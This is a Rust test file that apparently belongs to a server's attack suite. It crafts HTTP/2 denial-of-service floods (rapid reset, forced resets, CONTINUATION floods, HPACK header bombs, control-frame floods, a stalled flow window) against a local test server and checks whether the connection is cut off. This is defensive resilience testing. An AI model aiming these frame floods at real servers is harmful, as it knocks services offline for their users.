//! Floods of HTTP/2 frames, each valid by itself (rows 1 to 7): what costs the sender nothing must not cost the receiver
//! more. An attack has landed when the connection has taken all of it and still serves.

use crate::ground::{Ground, Side};
use crate::wire::{
    ACK, CONTINUATION, DATA, END_HEADERS, END_STREAM, H2, HEADERS, PING, PRIORITY, RST_STREAM,
    SETTINGS, WINDOW_UPDATE, field, frame, get, request,
};
use crate::{Attack, Outcome, outcome};
use naka_testkit::size;
use std::io::Write;
use std::time::{Duration, Instant};

pub(crate) const ATTACKS: &[Attack] = &[
    attack(1, "rapid reset", rapid_reset),
    attack(
        2,
        "rapid reset of requests that reached the program",
        cancelled_work,
    ),
    attack(3, "made you reset: window overflow", |g, s| {
        made_reset(g, s, overflow)
    }),
    attack(3, "made you reset: window update of zero", |g, s| {
        made_reset(g, s, zero)
    }),
    attack(3, "made you reset: headers after the end", |g, s| {
        made_reset(g, s, headers_after)
    }),
    attack(3, "made you reset: data after the end", |g, s| {
        made_reset(g, s, data_after)
    }),
    attack(3, "made you reset: priority of a wrong length", |g, s| {
        made_reset(g, s, short_priority)
    }),
    attack(
        3,
        "made you reset: a stream that depends on itself",
        |g, s| made_reset(g, s, itself),
    ),
    attack(4, "continuation flood of large frames", |g, s| {
        continuations(g, s, 16_000, 1_000)
    }),
    attack(4, "continuation flood of empty frames", |g, s| {
        continuations(g, s, 0, 10_000)
    }),
    attack(5, "resets that nobody reads", resets_unread),
    attack(6, "header bomb of one field a thousand times", |g, s| {
        bomb(g, s, b"x-bomb")
    }),
    attack(6, "header bomb of cookies", |g, s| bomb(g, s, b"cookie")),
    attack(7, "flood of SETTINGS", |g, s| {
        flood(g, s, &|_| frame(SETTINGS, 0, 0, &[]))
    }),
    attack(7, "flood of PING", |g, s| {
        flood(g, s, &|_| frame(PING, 0, 0, &[7; 8]))
    }),
    attack(7, "flood of PRIORITY", |g, s| {
        flood(g, s, &|n| {
            frame(PRIORITY, 0, 3 + 2 * (n % 1000), &[0, 0, 0, 0, 1])
        })
    }),
    attack(7, "flood of WINDOW_UPDATE", |g, s| {
        flood(g, s, &|_| frame(WINDOW_UPDATE, 0, 0, &1u32.to_be_bytes()))
    }),
    attack(7, "flood of empty DATA", empty_data),
    attack(7, "a window of one byte that never opens", closed_window),
];

const fn attack(row: u8, name: &'static str, run: fn(&Ground, Side) -> Outcome) -> Attack {
    Attack { row, name, run }
}

/// Frames of a flood.
fn many() -> u32 {
    size().pick(30_000, 1_000_000)
}

/// Sends parts until the connection ends; how many went.
fn pour(h2: &mut H2, count: u32, part: &dyn Fn(u32) -> Vec<u8>) -> u32 {
    let mut batch = Vec::new();
    for n in 0..count {
        batch.extend(part(n));
        if batch.len() >= 16 * 1024 || n + 1 == count {
            if !h2.send(&batch) {
                return n;
            }
            batch.clear();
        }
    }
    count
}

/// Landed when the connection goes on after all of it, or ends without a word for it.
fn judged(h2: &mut H2, stream: u32, sent: u32, began: Instant) -> Outcome {
    let served = h2.serves(stream);
    let time = began.elapsed().as_millis();
    match served {
        Ok(()) => outcome(
            true,
            format!("all {sent} taken in {time} ms, the connection goes on"),
        ),
        Err(how) => outcome(
            !how.contains(CALM),
            format!("{how} within {sent} in {time} ms"),
        ),
    }
}

/// Reads what comes on a thread of its own, so that no answer keeps the other side from reading. It gives back what the
/// other side closed with: the code of its last GOAWAY.
fn drain(h2: &H2) -> std::thread::JoinHandle<&'static str> {
    let stream = h2.stream.try_clone().expect("a socket");
    std::thread::spawn(move || {
        let mut h2 = H2::on(stream);
        let mut last = SILENT;
        let end = Instant::now() + Duration::from_secs(60);
        while Instant::now() < end {
            match h2.next() {
                Ok(Some(got)) => last = got.farewell().unwrap_or(last),
                Ok(None) => {}
                Err(()) => break,
            }
        }
        last
    })
}

/// Closed without a word.
const SILENT: &str = "nothing";
/// What who asks for too much is to be told.
const CALM: &str = "ENHANCE_YOUR_CALM";

fn rapid_reset(ground: &Ground, side: Side) -> Outcome {
    let mut h2 = H2::open(ground.http2(side), &[]);
    let began = Instant::now();
    let reset = |n: u32| {
        let stream = 1 + 2 * n;
        [
            get(stream, "/reset"),
            frame(RST_STREAM, 0, stream, &8u32.to_be_bytes()),
        ]
        .concat()
    };
    let sent = pour(&mut h2, many(), &reset);
    judged(&mut h2, 1 + 2 * many(), sent, began)
}

/// Each request is given time to reach the program before it is reset: nothing is pending, work is.
fn cancelled_work(ground: &Ground, side: Side) -> Outcome {
    let count = size().pick(1_500, 20_000);
    let mut h2 = H2::open(ground.http2(side), &[]);
    let reader = drain(&h2);
    let began = Instant::now();
    let mut sent = 0;
    for n in 0..count {
        let stream = 1 + 2 * n;
        let gone = !h2.send(&get(stream, "/hang"));
        std::thread::sleep(Duration::from_micros(700));
        if gone || !h2.send(&frame(RST_STREAM, 0, stream, &8u32.to_be_bytes())) {
            break;
        }
        sent = n + 1;
    }
    let most = ground
        .program
        .most
        .load(std::sync::atomic::Ordering::SeqCst);
    let _ = h2.stream.shutdown(std::net::Shutdown::Write);
    let said = reader.join().unwrap_or(SILENT);
    let ended = ended(ground);
    let time = began.elapsed().as_millis();
    if side == Side::Open {
        return outcome(sent == count, format!("all {sent} taken in {time} ms"));
    }
    let seen = format!(
        "closed with {said} after {sent} in {time} ms, at most {most} at the program, {ended} left there"
    );
    outcome(
        sent == count || most > 200 || ended > 0 || said != CALM,
        seen,
    )
}

/// Requests that hang at the program a while after the attack.
pub(crate) fn ended(ground: &Ground) -> usize {
    let end = Instant::now() + Duration::from_secs(5);
    loop {
        let working = ground
            .program
            .working
            .load(std::sync::atomic::Ordering::SeqCst);
        // The bystander's call may be one.
        if working <= 1 || Instant::now() > end {
            return working.saturating_sub(1);
        }
        std::thread::park_timeout(Duration::from_millis(10));
    }
}

/// What makes a server reset a stream, by the number of the stream.
type Primitive = fn(u32) -> Vec<u8>;

fn overflow(stream: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &0x7fff_ffffu32.to_be_bytes())
}
fn zero(stream: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, stream, &0u32.to_be_bytes())
}
fn headers_after(stream: u32) -> Vec<u8> {
    frame(
        HEADERS,
        END_HEADERS | END_STREAM,
        stream,
        &field(b"x-trailer", b"1"),
    )
}
fn data_after(stream: u32) -> Vec<u8> {
    frame(DATA, END_STREAM, stream, b"more")
}
fn short_priority(stream: u32) -> Vec<u8> {
    frame(PRIORITY, 0, stream, &[0, 0, 0, 1])
}
fn itself(stream: u32) -> Vec<u8> {
    frame(
        PRIORITY,
        0,
        stream,
        &[&stream.to_be_bytes()[..], &[1]].concat(),
    )
}

/// Whom resets are wrung out of: the library's own server bounds most of them whatever it is told.
fn resetting(ground: &Ground, side: Side) -> std::net::SocketAddr {
    match side {
        Side::Naka => ground.edge,
        Side::Open => ground.bare.resetting,
    }
}

fn made_reset(ground: &Ground, side: Side, primitive: Primitive) -> Outcome {
    let mut h2 = H2::open(resetting(ground, side), &[]);
    let reader = drain(&h2);
    let began = Instant::now();
    let part = |n: u32| {
        let stream = 1 + 2 * n;
        [get(stream, "/hang"), primitive(stream)].concat()
    };
    let count = size().pick(5_000, 100_000);
    let sent = pour(&mut h2, count, &part);
    let taken = sent == count && is_open(&h2);
    closed(&h2, reader, taken, sent, began)
}

/// Whether the other side has not closed a while after all was sent.
pub(crate) fn is_open(h2: &H2) -> bool {
    let end = Instant::now() + Duration::from_millis(500);
    while Instant::now() < end {
        std::thread::park_timeout(Duration::from_millis(10));
        if (&h2.stream).write_all(&frame(PING, 0, 0, &[1; 8])).is_err() {
            return false;
        }
    }
    true
}

fn continuations(ground: &Ground, side: Side, bytes: usize, count: u32) -> Outcome {
    let before = ground.resident();
    let mut h2 = H2::open(ground.http2(side), &[]);
    let began = Instant::now();
    h2.send(&frame(HEADERS, END_STREAM, 1, &request("GET", "/", &[])));
    let filler = if bytes == 0 {
        Vec::new()
    } else {
        field(b"x-filler", &vec![b'a'; bytes])
    };
    let sent = pour(&mut h2, count, &|_| frame(CONTINUATION, 0, 1, &filler));
    h2.send(&frame(CONTINUATION, END_HEADERS, 1, &[]));
    let mut result = judged(&mut h2, 3, sent, began);
    if side == Side::Naka {
        let grown = ground.resident().saturating_sub(before) >> 20;
        result.seen += &format!(", {grown} MiB more");
        result.landed |= grown > 16;
    }
    result
}

fn resets_unread(ground: &Ground, side: Side) -> Outcome {
    let before = ground.resident();
    let mut h2 = H2::open(resetting(ground, side), &[]);
    let began = Instant::now();
    let part = |n: u32| [get(1 + 2 * n, "/hang"), zero(1 + 2 * n)].concat();
    let count = size().pick(4_000, 50_000);
    // Nothing is read, so that what the server owes piles up there.
    let sent = pour(&mut h2, count, &part);
    let open = sent == count && is_open(&h2);
    let grown = ground.resident().saturating_sub(before) >> 20;
    let time = began.elapsed().as_millis();
    let seen = match open {
        true => format!("all {sent} queued in {time} ms"),
        false => format!("closed within {sent} in {time} ms, {grown} MiB more"),
    };
    outcome(open || side == Side::Naka && grown > 32, seen)
}

fn bomb(ground: &Ground, side: Side, name: &[u8]) -> Outcome {
    const TIMES: usize = 8_000;
    let before = ground.resident();
    let mut h2 = H2::open(ground.http2(side), &[]);
    // Literal with incremental indexing: the newest entry of the dynamic table is number 62 from then on.
    let mut block = request("GET", "/bomb", &[]);
    let mut entry = field(name, &[b'b'; 3_000]);
    entry[0] = 0x40;
    block.extend(entry);
    block.extend(vec![0x80 | 62; TIMES]);
    let small = block.len() >> 10;
    h2.send(&frame(HEADERS, END_HEADERS | END_STREAM, 1, &block));
    let end = Instant::now() + Duration::from_secs(5);
    let mut answer = Vec::new();
    while answer.is_empty() && Instant::now() < end {
        match h2.next() {
            Ok(Some(got)) if got.kind == HEADERS => answer = got.payload,
            Ok(Some(got)) if got.kind == RST_STREAM => break,
            Ok(_) => {}
            Err(()) => break,
        }
    }
    // `:status: 200` is entry 8 of the static table.
    let landed = answer.first() == Some(&0x88);
    let grown = ground.resident().saturating_sub(before) >> 20;
    let size = (TIMES * 3_000) >> 20;
    outcome(
        landed || side == Side::Naka && (grown > 16 || ground.program.saw("/bomb")),
        match landed {
            true => format!("{small} KiB became {size} MiB of headers"),
            false => format!("{small} KiB refused, {grown} MiB more"),
        },
    )
}

fn flood(ground: &Ground, side: Side, part: &dyn Fn(u32) -> Vec<u8>) -> Outcome {
    let mut h2 = H2::open(ground.http2(side), &[]);
    // Without reading, the answers to SETTINGS and PING would end the flood and not Naka.
    let reader = drain(&h2);
    let began = Instant::now();
    let sent = pour(&mut h2, many(), part);
    let open = sent == many() && is_open(&h2);
    closed(&h2, reader, open, sent, began)
}

/// Withstood when the connection was closed with a word for it.
fn closed(
    h2: &H2,
    reader: std::thread::JoinHandle<&'static str>,
    open: bool,
    sent: u32,
    began: Instant,
) -> Outcome {
    let _ = h2.stream.shutdown(std::net::Shutdown::Write);
    if open {
        let _ = h2.stream.shutdown(std::net::Shutdown::Both);
    }
    let said = reader.join().unwrap_or(SILENT);
    let time = began.elapsed().as_millis();
    match open {
        true => outcome(true, format!("all {sent} taken in {time} ms")),
        false => outcome(
            said == SILENT,
            format!("closed with {said} within {sent} in {time} ms"),
        ),
    }
}

fn empty_data(ground: &Ground, side: Side) -> Outcome {
    let mut h2 = H2::open(resetting(ground, side), &[]);
    h2.send(&frame(
        HEADERS,
        END_HEADERS,
        1,
        &request("POST", "/empty", &[]),
    ));
    let began = Instant::now();
    let sent = pour(&mut h2, many(), &|_| frame(DATA, 0, 1, &[]));
    h2.send(&frame(DATA, END_STREAM, 1, &[]));
    judged(&mut h2, 3, sent, began)
}

/// The route's timeout is 1 s, and a caller that takes nothing does not stretch it.
fn closed_window(ground: &Ground, side: Side) -> Outcome {
    const STREAMS: u32 = 50;
    const INITIAL_WINDOW: u16 = 4;
    let before = ground.resident();
    let mut h2 = H2::open(ground.http2(side), &[(INITIAL_WINDOW, 1)]);
    let began = Instant::now();
    for n in 0..STREAMS {
        h2.send(&get(1 + 2 * n, "/hasty/big"));
    }
    let mut open = STREAMS;
    let mut grown = 0;
    let end = Instant::now() + Duration::from_secs(6);
    while open > 0 && Instant::now() < end {
        grown = grown.max(ground.resident().saturating_sub(before) >> 20);
        match h2.next() {
            Ok(Some(got)) if got.kind == RST_STREAM => open -= 1,
            Ok(Some(got)) if got.kind == DATA && got.flags & END_STREAM != 0 => open -= 1,
            Ok(Some(got)) if got.kind == SETTINGS && got.flags & ACK == 0 => {
                h2.send(&frame(SETTINGS, ACK, 0, &[]));
            }
            Ok(_) => {}
            Err(()) => open = 0,
        }
    }
    let time = began.elapsed().as_millis();
    let seen = format!("{open} of {STREAMS} still open after {time} ms");
    match side {
        Side::Naka => outcome(
            open > 0 || grown > 48,
            format!("{seen}, at most {grown} MiB more"),
        ),
        Side::Open => outcome(open > 0, seen),
    }
}
